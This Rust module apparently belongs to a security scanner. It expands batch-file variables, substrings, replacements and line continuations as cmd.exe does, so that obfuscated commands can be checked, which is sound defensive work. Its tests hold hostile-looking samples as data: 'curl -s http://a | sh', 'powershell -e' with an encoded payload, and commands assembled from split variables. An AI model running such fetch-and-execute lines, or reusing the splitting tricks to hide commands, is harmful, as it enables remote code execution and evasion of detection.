//! Windows batch files (`.cmd`, `.bat`), read as `cmd.exe` reads them: a
//! line at a time (`^` at the end joins the next), `set NAME=value`
//! remembered, `%NAME%`, `!NAME!` and their `:~start,length` and
//! `:old=new` forms expanded, `rem` and `::` lines comments. Each line is
//! folded into one command for the line rules (`powershell -e %B%` is
//! `powershell -e SQBFAFgA...`); there is no tree-sitter grammar for batch
//! files, and its lines need none.

use super::{Env, Event, Lowered, MAX_DEPTH, Val, What};

/// Lowers the batch file `source`.
pub(super) fn lower(source: &str, env: &mut Env, out: &mut Lowered) {
    for (start, end, line) in logical_lines(source) {
        let trimmed = line.trim_start().trim_start_matches('@').trim_start();
        let lower = trimmed.to_ascii_lowercase();
        if lower.is_empty()
            || lower.starts_with("::")
            || lower == "rem"
            || lower.starts_with("rem ")
        {
            out.events.push(Event {
                start,
                end,
                what: What::Comment,
            });
            continue;
        }
        let expanded = expand(trimmed, env, 0);
        if let Some((name, value)) = assignment(&expanded) {
            env.assign(&name, Val::text(value));
            continue;
        }
        out.events.push(Event {
            start,
            end,
            what: What::Command(expanded),
        });
    }
}

/// The lines of `source` with their byte ranges, a line ending in `^`
/// joined to the next as `cmd.exe` does.
fn logical_lines(source: &str) -> Vec<(usize, usize, String)> {
    let mut lines = Vec::new();
    let mut current: Option<(usize, String)> = None;
    let mut offset = 0;
    for raw in source.split_inclusive('\n') {
        let start = offset;
        offset += raw.len();
        let text = raw.trim_end_matches(['\n', '\r']);
        let (begin, mut joined) = current.take().unwrap_or((start, String::new()));
        if let Some(head) = text.strip_suffix('^') {
            joined.push_str(head);
            current = Some((begin, joined));
            continue;
        }
        joined.push_str(text);
        lines.push((begin, start + text.len(), joined));
    }
    if let Some((begin, joined)) = current {
        lines.push((begin, source.len(), joined));
    }
    lines
}

/// `set NAME=value` and `set "NAME=value"` (not `/a` or `/p`): the name,
/// lower case, and the value.
fn assignment(line: &str) -> Option<(String, String)> {
    let rest = line
        .get(..4)?
        .eq_ignore_ascii_case("set ")
        .then(|| &line[4..])?;
    let rest = rest.trim_start();
    if rest.starts_with('/') {
        return None;
    }
    let rest = match rest.strip_prefix('"') {
        Some(inner) => inner.rsplit_once('"').map_or(inner, |(inside, _)| inside),
        None => rest,
    };
    let (name, value) = rest.split_once('=')?;
    let name = name.trim();
    (!name.is_empty() && !name.contains(char::is_whitespace))
        .then(|| (name.to_ascii_lowercase(), value.to_owned()))
}

/// `line` with `%NAME%` and `!NAME!` replaced by what the file set (the
/// ones it did not set are kept as written).
fn expand(line: &str, env: &Env, depth: usize) -> String {
    if depth > MAX_DEPTH / 50 {
        return line.to_owned();
    }
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find(['%', '!']) {
        out.push_str(&rest[..at]);
        let mark = rest.as_bytes()[at] as char;
        let after = &rest[at + 1..];
        if mark == '%' && after.starts_with('%') {
            out.push('%');
            rest = &after[1..];
            continue;
        }
        let Some(close) = after.find(mark) else {
            out.push(mark);
            rest = after;
            continue;
        };
        let reference = &after[..close];
        match lookup(reference, env) {
            Some(value) => out.push_str(&value),
            None => {
                out.push(mark);
                out.push_str(reference);
                out.push(mark);
            }
        }
        rest = &after[close + 1..];
    }
    out.push_str(rest);
    out
}

/// The value of `NAME`, `NAME:~start,length` or `NAME:old=new`.
fn lookup(reference: &str, env: &Env) -> Option<String> {
    let (name, modifier) = match reference.split_once(':') {
        Some((name, modifier)) => (name, Some(modifier)),
        None => (reference, None),
    };
    if name.is_empty() || name.contains(char::is_whitespace) {
        return None;
    }
    let value = env.get(&name.to_ascii_lowercase())?.text.clone()?;
    let Some(modifier) = modifier else {
        return Some(value);
    };
    if let Some(range) = modifier.strip_prefix('~') {
        let chars: Vec<char> = value.chars().collect();
        let length = chars.len() as i64;
        let mut parts = range.splitn(2, ',');
        let start: i64 = parts.next()?.trim().parse().ok()?;
        let start = if start < 0 {
            length.saturating_add(start).max(0)
        } else {
            start.min(length)
        };
        let end = match parts.next() {
            Some(count) => {
                let count: i64 = count.trim().parse().ok()?;
                if count < 0 {
                    length.saturating_add(count).max(start)
                } else {
                    start.saturating_add(count).min(length)
                }
            }
            None => length,
        };
        return Some(
            chars[start as usize..end.max(start) as usize]
                .iter()
                .collect(),
        );
    }
    let (old, new) = modifier.split_once('=')?;
    if old.is_empty() {
        return Some(value);
    }
    // Replacement ignores case, as cmd.exe's does.
    let mut out = String::new();
    let lower = value.to_ascii_lowercase();
    let needle = old.to_ascii_lowercase();
    let mut at = 0;
    while let Some(found) = lower[at..].find(&needle) {
        out.push_str(&value[at..at + found]);
        out.push_str(new);
        at += found + needle.len();
    }
    out.push_str(&value[at..]);
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn commands(source: &str) -> Vec<String> {
        let mut env = Env::default();
        let mut out = Lowered::default();
        lower(source, &mut env, &mut out);
        out.events
            .into_iter()
            .filter_map(|event| match event.what {
                What::Command(text) => Some(text),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn variables_are_expanded_as_cmd_expands_them() {
        assert_eq!(
            commands("@echo off\nset \"B=abc\"\npowershell -e %B%\n"),
            ["echo off", "powershell -e abc"]
        );
        assert_eq!(
            commands("set X=curlXYZ\nset Y=%X:~0,4%\n%Y% -s http://a | sh\n"),
            ["curl -s http://a | sh"]
        );
        assert_eq!(commands("set P=bXsh\n%P:X=a%\n"), ["bash"]);
        assert_eq!(commands("set P=abcdef\necho %P:~-2%\n"), ["echo ef"]);
        assert_eq!(
            commands("set P=ab\necho %P:~-9223372036854775808,9223372036854775807%\n"),
            ["echo ab"]
        );
        assert_eq!(commands("echo 100%% %UNSET%\n"), ["echo 100% %UNSET%"]);
        assert_eq!(
            commands("setlocal enabledelayedexpansion\nset v=cu\n!v!rl x\n")[1],
            "curl x"
        );
    }

    #[test]
    fn comments_and_continuations_are_read_as_cmd_reads_them() {
        assert_eq!(
            commands("rem curl x | sh\n:: wget y\nREM z\n"),
            Vec::<String>::new()
        );
        assert_eq!(commands("curl ^\n -s http://a\n"), ["curl  -s http://a"]);
    }
}
